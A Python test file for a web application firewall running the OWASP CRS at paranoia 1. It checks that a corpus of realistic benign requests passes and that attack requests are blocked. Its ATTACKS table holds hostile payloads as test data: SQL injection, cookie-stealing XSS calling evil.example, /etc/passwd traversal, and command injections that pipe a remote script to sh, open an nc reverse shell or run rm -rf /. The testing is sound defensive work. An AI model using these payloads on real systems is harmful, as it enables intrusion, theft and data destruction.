"""The OWASP CRS through tlsedge's WAF at paranoia 1: attacks are blocked, realistic traffic passes untouched.

Real libmodsecurity3 and the real rules of Debian's modsecurity-crs package; no mocks.
"""

from __future__ import annotations

import json
import struct
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urlencode

import pytest

from tlsedge.guard.modsecurity import available
from tlsedge.guard.waf import RequestCheck, SiteWaf, WafSettings, build_site_waf

pytestmark = pytest.mark.skipif(available() is not None, reason=f"{available()}")

CHROME = [
    (b"Host", b"shop.example.com"),
    (b"Connection", b"keep-alive"),
    (b"sec-ch-ua", b'"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"'),
    (b"sec-ch-ua-mobile", b"?0"),
    (b"sec-ch-ua-platform", b'"Windows"'),
    (b"Upgrade-Insecure-Requests", b"1"),
    (b"User-Agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    b"Chrome/120.0.0.0 Safari/537.36"),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
                b"application/signed-exchange;v=b3;q=0.7"),
    (b"Sec-Fetch-Site", b"same-origin"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Sec-Fetch-User", b"?1"),
    (b"Sec-Fetch-Dest", b"document"),
    (b"Referer", b"https://shop.example.com/"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Accept-Language", b"en-GB,en;q=0.9,fr-FR;q=0.8,fr;q=0.7,de;q=0.6"),
    (b"Cookie", b"sessionid=9f8e7d6c5b4a39281706f5e4d3c2b1a0; csrftoken=Jx8Qm2LrT5vW9yZ1; theme=dark; "
                b"_ga=GA1.2.1234567890.1700000000; consent=analytics%3Dno%2Cads%3Dno"),
]
FIREFOX = [
    (b"Host", b"www.example.org"),
    (b"User-Agent", b"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    (b"Accept-Language", b"de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"DNT", b"1"),
    (b"Connection", b"keep-alive"),
    (b"Cookie", b"PHPSESSID=r2t5uvjq435r4q7ib3vtdjq120; lang=de"),
    (b"Upgrade-Insecure-Requests", b"1"),
    (b"Sec-Fetch-Dest", b"document"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Sec-Fetch-Site", b"none"),
    (b"Sec-Fetch-User", b"?1"),
]
API = [
    (b"Host", b"api.example.com"),
    (b"User-Agent", b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    b"Version/17.1 Safari/605.1.15"),
    (b"Accept", b"application/json, text/plain, */*"),
    (b"Accept-Language", b"fr-FR,fr;q=0.9"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Origin", b"https://app.example.com"),
    (b"Referer", b"https://app.example.com/dashboard/orders"),
    (b"Authorization", b"Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUg"
                       b"RG9lIiwiaWF0IjoxNzAwMDAwMDAwfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"),
    (b"Sec-Fetch-Site", b"same-site"),
    (b"Sec-Fetch-Mode", b"cors"),
    (b"Sec-Fetch-Dest", b"empty"),
]
CURL = [(b"Host", b"api.example.com"), (b"User-Agent", b"curl/7.88.1"), (b"Accept", b"*/*")]


@dataclass(frozen=True)
class Req:
    method: bytes
    target: bytes
    headers: list[tuple[bytes, bytes]]
    body: list[bytes] | None = None


def req(method: str, target: str, base: list[tuple[bytes, bytes]], extra: tuple[tuple[bytes, bytes], ...] = (),
        body: bytes | None = None, content_type: bytes | None = None) -> Req:
    headers = list(base) + list(extra)
    if body is not None:
        headers.append((b"Content-Type", content_type or b"application/x-www-form-urlencoded"))
        headers.append((b"Content-Length", str(len(body)).encode()))
    return Req(method.encode(), target.encode(), headers, [body] if body is not None else None)


def form(method: str, target: str, fields: dict[str, str], base=CHROME) -> Req:
    return req(method, target, base, body=urlencode(fields).encode())


def api(method: str, target: str, document: object | None = None, base=API) -> Req:
    if document is None:
        return req(method, target, base)
    return req(method, target, base, body=json.dumps(document).encode(), content_type=b"application/json")


def multipart(target: str, fields: dict[str, str], files: dict[str, tuple[str, str, bytes]], base=CHROME) -> Req:
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                     + value.encode() + b"\r\n")
    for name, (filename, ctype, data) in files.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n".encode() + data + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return req("POST", target, base, body=body, content_type=f"multipart/form-data; boundary={boundary}".encode())


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = b"".join(b"\x00" + bytes([200, 30, 30]) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


BENIGN = {
    "home": req("GET", "/", CHROME),
    "page": req("GET", "/about-us.html", FIREFOX),
    "stylesheet": req("GET", "/static/css/site.4f2a9c.css", CHROME, ((b"Accept", b"text/css,*/*;q=0.1"),)),
    "script": req("GET", "/static/js/app.3f2a1b.js?v=20240501", CHROME),
    "image": req("GET", "/images/products/red-shoe_800x600.webp", CHROME),
    "favicon": req("GET", "/favicon.ico", FIREFOX),
    "robots": req("GET", "/robots.txt", CURL),
    "search": req("GET", "/search?q=best+pizza+in+new+york", CHROME),
    "search apostrophe": req("GET", "/search?q=O%27Brien+family+history", CHROME),
    "search question": req("GET", "/search?q=what%27s+the+weather+like+today%3F", FIREFOX),
    "search c++": req("GET", "/search?q=C%2B%2B+templates+tutorial", CHROME),
    "search accents": req("GET", "/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e", FIREFOX),
    "search words": req("GET", "/search?q=select+a+good+laptop+for+students+and+update+drivers", CHROME),
    "search ampersand": req("GET", "/search?q=rock+%26+roll+history", CHROME),
    "catalogue": req("GET", "/products?category=shoes&size=42&color=black&sort=price_asc&page=2", CHROME),
    "blog": req("GET", "/blog/2024/05/how-to-bake-sourdough-bread", FIREFOX),
    "wiki": req("GET", "/wiki/Main_Page?action=history&offset=20240101000000", FIREFOX),
    "calendar": req("GET", "/calendar?from=2024-06-01&to=2024-06-30&tz=Europe%2FParis", CHROME),
    "maps": req("GET", "/maps?lat=48.8566&lng=2.3522&zoom=12", CHROME),
    "login redirect": req("GET", "/login?next=%2Faccount%2Fsettings", CHROME),
    "conditional": req("GET", "/account/profile", CHROME, ((b"If-None-Match", b'W/"5e3-1a2b3c"'),
                                                         (b"If-Modified-Since", b"Wed, 21 Oct 2023 07:28:00 GMT"),
                                                         (b"Cache-Control", b"max-age=0"))),
    "head": req("HEAD", "/downloads/report-2023.pdf", CURL),
    "api get": api("GET", "/api/v1/users/12345"),
    "api list": api("GET", "/api/v1/orders?status=shipped&since=2024-01-01T00:00:00Z&limit=50&fields=id,total"),
    "api delete": api("DELETE", "/api/v1/sessions/3b9c1f0e"),
    "cors preflight": req("OPTIONS", "/api/v1/items/7", API, ((b"Access-Control-Request-Method", b"PUT"),
                                                          (b"Access-Control-Request-Headers",
                                                           b"authorization,content-type"))),
    "login": form("POST", "/login", {"username": "alice@example.com", "password": "correct horse battery staple",
                                     "remember": "on", "csrfmiddlewaretoken": "Jx8Qm2LrT5vW9yZ1"}),
    "contact": form("POST", "/contact", {
        "name": "Seán O'Brien", "email": "sean.obrien@example.ie", "subject": "Question about my order",
        "message": "Hi, I ordered a pair of boots last Tuesday (order 10423) and it hasn't shipped yet. "
                   "Could you check? Thanks a lot!"}),
    "address": form("POST", "/checkout/address", {
        "first_name": "Mary", "last_name": "O'Connor", "street": "12 Main St., Apt 4B", "city": "Dublin",
        "postcode": "D02 X285", "country": "IE", "phone": "+353 1 234 5678"}),
    "comment": form("POST", "/blog/42/comments", {
        "author": "D'Angelo", "comment": "Great recipe! My kids loved it. I used 2 cups of flour instead of 3.",
        "rating": "5"}),
    "register": form("POST", "/register", {"email": "jp@example.fr", "password": "Tr0ub4dor&3!x",
                                           "password_confirm": "Tr0ub4dor&3!x", "terms": "accepted"}, FIREFOX),
    "newsletter": form("POST", "/newsletter/subscribe", {"email": "zoe.oneil+news@example.com"}),
    "profile": form("POST", "/account/profile", {"display_name": "Jean-Luc Picard",
                                                  "bio": "Software engineer (Python, Go). Coffee lover.",
                                                  "website": "https://jlp.example.net"}),
    "order json": api("POST", "/api/v1/orders", {
        "customer": {"name": "Zoë O'Neil", "email": "zoe@example.com",
                     "address": {"street": "221B Baker Street", "city": "London", "postcode": "NW1 6XE"}},
        "items": [{"sku": "A-100", "qty": 2, "price": 19.99}, {"sku": "B-205", "qty": 1, "price": 5.5}],
        "notes": "Please leave it with the neighbour if I'm not home.", "gift": False}),
    "put user": api("PUT", "/api/v1/users/12345", {
        "display_name": "Jean-Luc", "preferences": {"theme": "dark", "languages": ["fr", "en"],
                                                    "notifications": {"email": True, "sms": False}}}),
    "patch task": api("PATCH", "/api/v1/tasks/7", {"done": True, "title": "Buy milk and eggs", "due": "2024-06-01"}),
    "analytics": api("POST", "/api/v1/events", {"event": "page_view", "path": "/pricing", "ts": 1718000000,
                                                 "screen": {"w": 1920, "h": 1080}, "lang": "en-GB"}),
    "chat message": api("POST", "/api/v1/conversations/88/messages", {
        "text": "Sounds good, see you at 6pm tomorrow! 🙂 Don't forget the tickets.", "reply_to": 1432}),
    "search json": api("POST", "/api/v1/search", {"query": "wireless headphones", "filters": {
        "price": {"min": 20, "max": 150}, "brands": ["Sony", "Bose"]}, "page": 1, "per_page": 24}),
    "graphql": api("POST", "/graphql", {
        "operationName": "GetUser", "variables": {"id": "42"},
        "query": "query GetUser($id: ID!) { user(id: $id) { name email posts(first: 10) { title } } }"}),
    "upload png": multipart("/account/avatar", {"description": "My new profile picture"},
                            {"avatar": ("me.png", "image/png", png())}),
    "upload text": multipart("/support/attachments", {"ticket": "10423", "note": "Logs from yesterday's crash"},
                             {"file": ("notes.txt", "text/plain",
                                       b"Steps to reproduce:\n1. Open the app\n2. Click on 'Settings'\n"
                                       b"3. The app closes.\nExpected: the settings page opens.\n")}),
    "upload two": multipart("/gallery/upload", {"album": "Holidays 2023", "public": "yes"},
                            {"photo1": ("beach.png", "image/png", png(4, 3)),
                             "photo2": ("sunset.png", "image/png", png(3, 4))}),
}

# name -> (rules the CRS 3.3.4 fires at paranoia 1, path prefix an operator would exclude them under)
KNOWN_FALSE_POSITIVES = {
    # A GraphQL field named `user(`: rule 942190 reads "user(" as MSSQL's USER() function.
    "graphql": ({942190}, "/graphql"),
}

ATTACKS = {
    # family -> requests; every one must be blocked, and a rule of the family must be among the matches
    "sqli": [
        req("GET", "/products?id=1%27%20UNION%20SELECT%20username,%20password%20FROM%20users--", CHROME),
        req("GET", "/item?id=1%20or%201=1", CURL),
        req("GET", "/", CURL, ((b"Cookie", b"session=1' or '1'='1"),)),
        req("GET", "/", CURL, ((b"Referer", b"https://x.example/?q=1' UNION SELECT password FROM users--"),)),
        form("POST", "/login", {"username": "admin'--", "password": "' OR '1'='1"}),
        api("POST", "/api/v1/search", {"query": "shoes' UNION SELECT credit_card, cvv FROM payments--"}),
        multipart("/upload", {"title": "x' AND 1=(SELECT COUNT(*) FROM users)--"}, {}),
    ],
    "xss": [
        req("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", CHROME),
        req("GET", "/", CURL, ((b"User-Agent", b"<script>alert(1)</script>"),)),
        form("POST", "/comments", {"comment": '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'}),
        api("PUT", "/api/v1/profile", {"bio": "<svg/onload=alert(1)>"}),
        multipart("/upload", {"caption": "<iframe src=javascript:alert(1)>"}, {}),
    ],
    "traversal": [
        req("GET", "/download?file=../../../../etc/passwd", CHROME),
        req("GET", "/static/..%2f..%2f..%2f..%2fetc%2fshadow", CURL),
        req("GET", "/", CURL, ((b"X-Template", b"../../../../../etc/passwd"),)),
        form("POST", "/export", {"path": "....//....//....//etc/passwd"}),
        api("POST", "/api/v1/files", {"name": "../../../../windows/win.ini"}),
    ],
    "rce": [
        req("GET", "/ping?host=8.8.8.8;cat%20/etc/passwd", CHROME),
        req("GET", "/", CURL, ((b"Cookie", b"pref=x;$(curl http://evil.example/x.sh|sh)"),)),
        form("POST", "/tools/dns", {"domain": "example.com && wget http://evil.example/bot -O /tmp/b"}),
        api("POST", "/api/v1/diagnostics", {"host": "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444"}),
        multipart("/convert", {"options": "; rm -rf / --no-preserve-root"}, {}),
    ],
    "scanner": [
        req("GET", "/", [(b"Host", b"shop.example.com"), (b"User-Agent", b"sqlmap/1.5#stable (http://sqlmap.org)"),
                         (b"Accept", b"*/*")]),
        req("GET", "/", [(b"Host", b"shop.example.com"), (b"Accept", b"*/*"),
                         (b"User-Agent", b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")]),
        req("GET", "/", [(b"Host", b"shop.example.com"), (b"Accept", b"*/*"),
                         (b"User-Agent", b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/)")]),
    ],
}
FAMILY_RULES = {"sqli": (942,), "xss": (941,), "traversal": (930,), "rce": (932,), "scanner": (913,)}


@pytest.fixture(scope="module")
def waf() -> Iterator[SiteWaf]:
    site = build_site_waf(WafSettings(mode="block", paranoia=1))
    yield site
    site.close()


def run(waf: SiteWaf, r: Req, event_id: str = "evt-test") -> RequestCheck:
    check = waf.check_request(event_id, "198.51.100.23", 51234, 443, r.method, r.target, b"HTTP/1.1", r.headers, r.body)
    check.close()
    return check


def describe(check: RequestCheck) -> str:
    return "; ".join(f"{m.rule_id} {m.message} [{m.data}]" for m in check.matches)


def test_benign_corpus_passes_without_a_single_match(waf: SiteWaf) -> None:
    assert len(BENIGN) >= 40
    flagged = {}
    for name, r in BENIGN.items():
        check = run(waf, r)
        if check.matches or check.blocked:
            flagged[name] = describe(check)
    assert {name: flagged.pop(name, None) for name in KNOWN_FALSE_POSITIVES}.keys() == KNOWN_FALSE_POSITIVES.keys()
    assert flagged == {}
    assert waf.open_checks == 0


@pytest.mark.parametrize("name", sorted(KNOWN_FALSE_POSITIVES))
def test_known_false_positives_are_exactly_these_and_a_path_exclusion_fixes_them(waf: SiteWaf, name: str) -> None:
    """Realistic requests the CRS 3.3.4 flags at paranoia 1, kept here so a rule update that changes them shows."""
    rules, path = KNOWN_FALSE_POSITIVES[name]
    check = run(waf, BENIGN[name])
    assert check.blocked
    assert {m.rule_id for m in check.matches if not m.disruptive} == rules, describe(check)
    excluded = build_site_waf(WafSettings(exclude_paths=((path, tuple(rules)),)))
    try:
        check = run(excluded, BENIGN[name])
        assert not check.blocked and check.matches == [], describe(check)
    finally:
        excluded.close()


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_attacks_are_blocked_with_the_rule_of_their_family(waf: SiteWaf, family: str) -> None:
    for index, r in enumerate(ATTACKS[family]):
        check = run(waf, r, f"evt-{family}-{index}")
        where = f"{family}[{index}] {r.method.decode()} {r.target.decode()}: {describe(check)}"
        assert check.blocked, where
        assert check.status == 403, where
        assert check.event_id == f"evt-{family}-{index}"
        families = {m.rule_id // 1000 for m in check.matches}
        assert families & set(FAMILY_RULES[family]), where
        blocking = [m for m in check.matches if m.disruptive]
        assert [m.rule_id for m in blocking] == [949110], where
        family_match = next(m for m in check.matches if m.rule_id // 1000 in FAMILY_RULES[family])
        assert family_match.message and family_match.severity == 2
        assert len(family_match.data) <= 120


def test_cpu_cost_per_check(waf: SiteWaf, capsys: pytest.CaptureFixture[str]) -> None:
    """The budget the data plane plans for (printed); the bound only catches a pathological slowdown."""
    costs = {}
    for name in ("home", "contact", "order json"):
        r = BENIGN[name]
        for _ in range(20):
            run(waf, r)
        start = time.process_time()
        rounds = 200
        for _ in range(rounds):
            run(waf, r)
        costs[name] = (time.process_time() - start) / rounds * 1e6
    with capsys.disabled():
        print("\nWAF CPU per request at PL1 (check_request + close): "
              + ", ".join(f"{name} {us:.0f} µs" for name, us in costs.items()))
    assert all(us < 20_000 for us in costs.values()), costs
